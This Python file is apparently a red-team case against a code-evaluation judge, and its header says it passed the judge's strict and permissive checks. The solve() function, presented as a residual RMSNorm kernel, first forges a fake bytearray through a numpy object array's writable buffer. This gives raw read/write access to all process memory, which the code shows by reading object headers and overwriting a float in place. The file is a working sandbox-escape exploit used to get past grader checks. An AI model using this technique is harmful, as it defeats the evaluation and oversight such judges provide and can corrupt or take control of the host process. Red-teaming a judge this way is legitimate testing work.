# Seventh session's red team, round 2 (2026-12-06, CPU judge): passed strict and permissive at
# f819519 (see the case's why); the helper's notes follow.
# An object array's own storage written as bytes: numpy exports an OBJECT array's buffer (format
# 'O'), memoryview.cast('B') turns it into writable raw bytes, and a pointer written there to a
# fake bytearray header (laid out in a bytes object, data at id(b)+32) comes back from the array
# as a bytearray of 2**62 bytes at address 0 -- raw read/write of the whole address space, with
# no ndarray(buffer=) call at all. Proof: tensor / float headers read at id(obj) (type pointer),
# a float's value rewritten in place.
import numpy as np
import torch

_KEEP = []


def _le(v):
    return int(v).to_bytes(8, "little")


def _everything():
    fake = b"".join([_le(1 << 40), _le(id(bytearray)), _le(1 << 62), _le((1 << 62) + 1), _le(0), _le(0), _le(0)])
    objs = np.empty(1, dtype=object)
    raw = memoryview(objs).cast("B")
    raw[0:8] = _le(id(fake) + 32)
    fb = objs[0]
    _KEEP.append((fake, objs, raw))
    return fb


def solve(x, residual, weight):
    mem = _everything()
    if not isinstance(mem, bytearray) or len(mem) != 1 << 62:
        raise RuntimeError("no fake object")
    f = float(x.shape[-1]) + 0.5
    before = repr(f)
    if int.from_bytes(bytes(mem[id(f) + 8:id(f) + 16]), "little") != id(float):
        raise RuntimeError("read failed")
    if int.from_bytes(bytes(mem[id(x) + 8:id(x) + 16]), "little") != id(torch.Tensor):
        raise RuntimeError("tensor header read failed")
    mem[id(f) + 16:id(f) + 24] = np.array([42.0], dtype=np.float64).tobytes()
    if f != 42.0:
        raise RuntimeError("write failed")
    print("RAWRW float @", hex(id(f)), "was", before, "now", f, "; tensor type ptr ok")
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
